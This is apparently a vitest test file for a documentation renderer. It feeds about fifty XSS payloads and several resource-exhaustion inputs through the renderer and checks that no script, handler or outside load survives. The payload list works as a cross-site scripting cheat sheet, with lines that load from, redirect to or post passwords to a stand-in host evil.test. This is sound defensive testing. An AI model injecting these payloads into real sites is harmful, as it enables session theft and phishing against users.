import type { Root } from "hast";
import rehypeRaw from "rehype-raw";
import { unified } from "unified";
import { describe, expect, test } from "vitest";
import { eachElement } from "./read-tree.ts";
import { renderPage } from "./render-page.ts";
import type { SitePlaces } from "./site-places.ts";
import { startRenderer } from "./start-renderer.ts";

const places: SitePlaces = {
  base: "/docs",
  imageBase: "/image",
  pages: { "index.md": "" },
  files: {},
  fileUrls: {},
  slugs: { separator: "-", isUnicode: false },
};
const page = (text: string) => ({ docPath: "index.md", file: "docs/index.md", navTitle: null, text });

const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=javascript:alert(1)>",
  "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe src=https://evil.test></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object><embed src=x><applet></applet>",
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  "<base href=https://evil.test/>",
  "<link rel=stylesheet href=https://evil.test/x.css>",
  "<style>*{display:none}</style>",
  "<form action=https://evil.test><input name=password><button>x</button></form>",
  "<p style='position:fixed;inset:0'>x</p>",
  "<div onclick=alert(1) onmouseover=alert(1)>x</div>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='vbscript:x'>x</a><a href='data:text/html,x'>y</a>",
  "[x](javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x]( JaVaScRiPt:alert(1))",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x](javascript:alert(1)) ![y](data:image/png;base64,AAAA)",
  "<javascript:alert(1)>",
  '# H {onclick=alert(1) style=x id="x y"}',
  "[x](https://a.test){onclick=alert(1) href=javascript:alert(1)}",
  "![x](a.png){src=javascript:alert(1) onerror=x}",
  '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
  '??? "note onclick=x" "<b onmouseover=x>"\n    x',
  '=== "<script>alert(1)</script>"\n    x',
  '```"><script>alert(1)</script>\nx\n```',
  '```html title="<script>alert(1)</script>"\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A "javascript:alert(1)"\n```',
  "*[X]: <img src=x onerror=alert(1)>\n\nX",
  '++"<script>"++ ==<script>alert(1)</script>==',
  "`<script>alert(1)</script>`",
  "Term\n:   <script>alert(1)</script>",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
  "<a id=__proto__ name=constructor>x</a><img name=body id=body>",
  "<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x>",
  "<template><script>alert(1)</script></template><slot></slot><custom-element onx=1>",
  "<details ontoggle=alert(1) open>x</details>",
  "<a href=https://a.test target=_blank rel=opener ping=https://evil.test>x</a>",
  "<table background=https://evil.test/x.png><tr><td background=x>",
  "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
];

const refused = new Set(
  "script style iframe object embed applet svg math form input button meta base link template video audio source noscript textarea select frame frameset slot".split(
    " ",
  ),
);
const addresses = new Set(["href", "src"]);

/** Read as a browser reads it: nothing may be left that runs, loads or leaves without being asked. */
function judge(html: string): string[] {
  const found: string[] = [];
  const read = unified().use(rehypeRaw);
  const tree = read.runSync({ type: "root", children: [{ type: "raw", value: html }] } as Root) as Root;
  eachElement(tree, ({ tagName, properties }) => {
    if (refused.has(tagName)) found.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (/^on|^style$|srcdoc|^name$|^target$|^ping$|^action$|background|xlink/i.test(name)) found.push(name);
      if (!addresses.has(name)) continue;
      if (!/^(?:https?:\/\/|mailto:|\/docs|\/image\?|#)/.test(String(value))) found.push(`${name}=${value}`);
      if (tagName === "img" && !String(value).startsWith("/image?")) found.push(`img ${value}`);
      if (name === "href" && /^https?:/.test(String(value)) && !String(properties.rel).includes("noopener"))
        found.push(`no rel on ${value}`);
    }
  });
  return found;
}

describe("hostile Markdown is harmless", () => {
  test.each(payloads)("%s", (payload) => {
    for (const text of [
      payload,
      `text ${payload} text`,
      `- ${payload.replaceAll("\n", "\n  ")}`,
      `> ${payload.replaceAll("\n", "\n> ")}`,
      `| a |\n| - |\n| ${payload.replaceAll("\n", " ").replaceAll("|", "\\|")} |`,
      `# ${payload.replaceAll("\n", " ")}`,
      `!!! note\n    ${payload.replaceAll("\n", "\n    ")}`,
      `=== "A"\n    ${payload.replaceAll("\n", "\n    ")}`,
      `[${payload.replaceAll("\n", " ")}](https://a.test "${payload.replace(/["\n]/g, "")}")`,
    ])
      expect(judge(renderPage(page(text), places).html), text).toEqual([]);
  });
});

describe("what costs too much is a sentence, and the next page goes on", () => {
  const many = (text: string, count: number) => text.repeat(count);
  const bombs: Record<string, string> = {
    "nested quotes": many("> ", 20_000),
    "nested elements": many("<div><blockquote>", 20_000),
    "a giant table": `|${many("a|", 500)}\n|${many("-|", 500)}\n${many(`|${many("x|", 500)}\n`, 800)}`,
    "definitions and references": `${Array.from({ length: 20_000 }, (_, at) => `[r${at}]: /x "t"`).join("\n")}\n${many("[r1]", 50_000)}`,
    "footnotes that name each other": Array.from(
      { length: 3_000 },
      (_, at) => `[^${at}]: [^${at + 1}] [^${at + 1}]`,
    ).join("\n\n"),
    "one long line": many("a", 900_000),
    backticks: many("`", 100_000),
    keys: many("++a+b", 50_000),
  };

  test("each within its time and memory", async () => {
    const renderer = startRenderer(places, { pageSeconds: 2, memoryMb: 256 });
    const outcomes: string[] = [];
    try {
      for (const [name, text] of Object.entries(bombs)) {
        const answer = await renderer.render(page(text));
        if (!answer.ok) expect(answer.failure).toMatch(/^This page .+$/);
        else expect(judge(answer.page.html.slice(0, 2_000_000)), name).toEqual([]);
        outcomes.push(`${name}: ${answer.ok ? "shown" : answer.failure}`);
        const next = await renderer.render(page("# Fine\n"));
        expect(next.ok, `after ${name}`).toBe(true);
      }
    } finally {
      await renderer.stop();
    }
    console.log(outcomes.join("\n"));
  });
});
